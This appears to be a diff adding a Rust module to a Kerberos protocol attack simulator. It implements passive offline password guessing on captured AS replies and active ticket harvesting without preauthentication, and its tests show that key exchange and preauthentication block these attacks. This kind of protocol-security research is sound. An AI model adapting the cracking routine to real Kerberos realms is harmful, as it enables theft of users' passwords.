@@ -1,0 +1,271 @@
+//! A4/A5 — password-guessing attacks.
+//!
+//! A4 (passive): "an intruder recording login dialogs in order to mount
+//! a password-guessing assault ... A guess at the user's password can be
+//! confirmed by calculating Kc and using it to decrypt the recorded
+//! answer." Defeated by the exponential-key-exchange layer.
+//!
+//! A5 (active): "an attacker could simply request ticket-granting
+//! tickets for many different users" — no eavesdropping required.
+//! Defeated by preauthentication (and slowed by rate limiting).
+
+use crate::env::AttackEnv;
+use crate::workload::guess_list;
+use crate::{Attack, AttackReport};
+use kerberos::encoding::MsgType;
+use kerberos::kdc::hha_key;
+use kerberos::messages::{deframe, AsRep, AsReq, EncKdcRepPart, KrbErrorMsg, WireKind};
+use kerberos::{Principal, ProtocolConfig};
+use krb_crypto::s2k;
+
+/// Attempts to confirm a password guess against a recorded (or
+/// harvested) AS reply sealed under `K_c` or `{R}K_c`.
+///
+/// Returns the recovered password if any guess verifies.
+pub fn crack_as_reply(
+    config: &ProtocolConfig,
+    client: &Principal,
+    enc_part: &[u8],
+    challenge_r: Option<u64>,
+    guesses: &[String],
+) -> Option<String> {
+    for guess in guesses {
+        let kc = s2k::string_to_key_v5(guess, &client.salt());
+        let key = match challenge_r {
+            Some(r) => hha_key(&kc, r),
+            None => kc,
+        };
+        let Ok(pt) = config.ticket_layer.open(&key, 0, enc_part) else { continue };
+        let Ok(part) = EncKdcRepPart::decode(config.codec, MsgType::EncAsRepPart, &pt) else {
+            continue;
+        };
+        // Sanity screens against legacy-codec false positives: session
+        // keys are parity-correct and times are sane.
+        if part.session_key.has_odd_parity() && part.server_time <= part.end_time {
+            return Some(guess.clone());
+        }
+    }
+    None
+}
+
+/// A4: passive (wiretap) password guessing.
+pub struct PassiveGuessing;
+
+impl Attack for PassiveGuessing {
+    fn id(&self) -> &'static str {
+        "A4"
+    }
+
+    fn name(&self) -> &'static str {
+        "offline password guessing (passive)"
+    }
+
+    fn run(&self, config: &ProtocolConfig, seed: u64) -> AttackReport {
+        let mut env = AttackEnv::new(config, seed);
+        let report = |succeeded: bool, evidence: String| AttackReport {
+            id: "A4",
+            name: "offline password guessing (passive)",
+            config: config.name,
+            succeeded,
+            evidence,
+        };
+
+        // The victim (sam, whose password is a mutated dictionary word)
+        // logs in; the wiretap records the dialog.
+        if env.login("sam").is_err() {
+            return report(false, "victim login failed".into());
+        }
+        let sam = env.user("sam");
+        let sam_ep = env.realm.user_ep("sam");
+
+        // Recover the AS reply (and the challenge R, if the deployment
+        // uses handheld authenticators — R travels in the clear).
+        let mut challenge_r = None;
+        let mut enc_part = None;
+        for r in env.net.traffic_log() {
+            if r.dgram.dst != sam_ep {
+                continue;
+            }
+            match r.dgram.payload.first().copied().and_then(WireKind::from_u8) {
+                Some(WireKind::Err) => {
+                    if let Ok(e) = KrbErrorMsg::decode(config.codec, &r.dgram.payload) {
+                        if let Some(c) = e.challenge {
+                            challenge_r = Some(c);
+                        }
+                    }
+                }
+                Some(WireKind::AsRep) => {
+                    if let Ok(rep) = AsRep::decode(config.codec, &r.dgram.payload) {
+                        if rep.dh_public.is_some() {
+                            return report(
+                                false,
+                                "exponential key exchange seals the reply; passive guesses \
+                                 cannot even be tested"
+                                    .into(),
+                            );
+                        }
+                        enc_part = Some(rep.enc_part);
+                    }
+                }
+                _ => {}
+            }
+        }
+        let Some(enc_part) = enc_part else {
+            return report(false, "no AS reply captured".into());
+        };
+
+        match crack_as_reply(config, &sam, &enc_part, challenge_r, &guess_list()) {
+            Some(pw) => report(true, format!("recovered sam's password {pw:?} from the wiretap")),
+            None => report(false, "no dictionary guess verified".into()),
+        }
+    }
+}
+
+/// A5: active ticket harvest — no eavesdropping.
+pub struct ActiveHarvest;
+
+impl Attack for ActiveHarvest {
+    fn id(&self) -> &'static str {
+        "A5"
+    }
+
+    fn name(&self) -> &'static str {
+        "ticket harvest without eavesdropping"
+    }
+
+    fn run(&self, config: &ProtocolConfig, seed: u64) -> AttackReport {
+        let mut env = AttackEnv::new(config, seed);
+        let report = |succeeded: bool, evidence: String| AttackReport {
+            id: "A5",
+            name: "ticket harvest without eavesdropping",
+            config: config.name,
+            succeeded,
+            evidence,
+        };
+        let attacker_ep = env.attacker_ep();
+        let sam = env.user("sam");
+
+        // The attacker requests an AS reply *for sam* from its own
+        // workstation. As an active participant it can complete the DH
+        // exchange itself — DH does not stop this attack; only
+        // preauthentication does.
+        let mut padata = Vec::new();
+        let dh_group = krb_crypto::dh::DhGroup::oakley768();
+        let dh_keypair = if config.dh_login {
+            let kp = dh_group.keypair(160, &mut env.rng).expect("keypair");
+            padata.push(kerberos::messages::PaData::DhPublic(kp.public.to_bytes_be()));
+            Some(kp)
+        } else {
+            None
+        };
+        let req = AsReq {
+            client: sam.clone(),
+            service: Principal::tgs(&env.realm.name),
+            nonce: 7,
+            lifetime_us: config.ticket_lifetime_us,
+            addr: attacker_ep.addr.0,
+            options: kerberos::flags::KdcOptions::empty(),
+            padata,
+        };
+        let reply = match env.net.rpc(attacker_ep, env.realm.kdc_ep, req.encode(config.codec)) {
+            Ok(r) => r,
+            Err(e) => return report(false, format!("harvest request failed: {e}")),
+        };
+        if let Ok((WireKind::Err, _)) = deframe(&reply) {
+            let e = KrbErrorMsg::decode(config.codec, &reply)
+                .map(|e| e.text)
+                .unwrap_or_else(|_| "?".into());
+            return report(false, format!("KDC refused unauthenticated request: {e}"));
+        }
+        let Ok(rep) = AsRep::decode(config.codec, &reply) else {
+            return report(false, "unparseable reply".into());
+        };
+
+        // Peel the attacker's own DH layer if present.
+        let enc_part = match (&dh_keypair, &rep.dh_public) {
+            (Some(kp), Some(server_pub)) => {
+                let their = krb_crypto::bignum::BigUint::from_bytes_be(server_pub);
+                let secret = dh_group.shared_secret(&their, &kp.private).expect("shared");
+                let dh_key = krb_crypto::dh::DhGroup::derive_key(&secret);
+                match config.ticket_layer.open(&dh_key, 0, &rep.enc_part) {
+                    Ok(inner) => inner,
+                    Err(e) => return report(false, format!("DH unseal failed: {e}")),
+                }
+            }
+            _ => rep.enc_part.clone(),
+        };
+
+        match crack_as_reply(config, &sam, &enc_part, rep.challenge_r, &guess_list()) {
+            Some(pw) => {
+                report(true, format!("harvested {{...}}K_sam without eavesdropping; cracked {pw:?}"))
+            }
+            None => report(false, "no dictionary guess verified".into()),
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn passive_cracks_v4_and_draft3() {
+        assert!(PassiveGuessing.run(&ProtocolConfig::v4(), 1).succeeded);
+        assert!(PassiveGuessing.run(&ProtocolConfig::v5_draft3(), 1).succeeded);
+    }
+
+    #[test]
+    fn dh_layer_blocks_passive() {
+        assert!(!PassiveGuessing.run(&ProtocolConfig::hardened(), 1).succeeded);
+        // Even v4 + DH alone blocks the passive attack.
+        let mut config = ProtocolConfig::v4();
+        config.dh_login = true;
+        assert!(!PassiveGuessing.run(&config, 2).succeeded);
+    }
+
+    #[test]
+    fn active_harvest_cracks_v4_and_draft3() {
+        assert!(ActiveHarvest.run(&ProtocolConfig::v4(), 1).succeeded);
+        assert!(ActiveHarvest.run(&ProtocolConfig::v5_draft3(), 1).succeeded);
+    }
+
+    #[test]
+    fn dh_alone_does_not_block_active_harvest() {
+        // The paper's caveat: the attacker can do the key exchange
+        // itself.
+        let mut config = ProtocolConfig::v4();
+        config.dh_login = true;
+        assert!(ActiveHarvest.run(&config, 2).succeeded);
+    }
+
+    #[test]
+    fn preauth_blocks_active_harvest() {
+        assert!(!ActiveHarvest.run(&ProtocolConfig::hardened(), 1).succeeded);
+        let mut config = ProtocolConfig::v4();
+        config.preauth = kerberos::PreauthMode::EncTimestamp;
+        assert!(!ActiveHarvest.run(&config, 3).succeeded);
+    }
+
+    #[test]
+    fn strong_passwords_resist_even_when_protocol_is_weak() {
+        // pat's passphrase is not in any dictionary; cracking the
+        // captured reply fails even on V4.
+        let config = ProtocolConfig::v4();
+        let mut env = AttackEnv::new(&config, 9);
+        env.login("pat").unwrap();
+        let pat = env.user("pat");
+        let pat_ep = env.realm.user_ep("pat");
+        let rep = env
+            .net
+            .traffic_log()
+            .iter()
+            .find(|r| {
+                r.dgram.dst == pat_ep
+                    && r.dgram.payload.first().copied().and_then(WireKind::from_u8)
+                        == Some(WireKind::AsRep)
+            })
+            .map(|r| AsRep::decode(config.codec, &r.dgram.payload).unwrap())
+            .unwrap();
+        assert!(crack_as_reply(&config, &pat, &rep.enc_part, None, &guess_list()).is_none());
+    }
+}
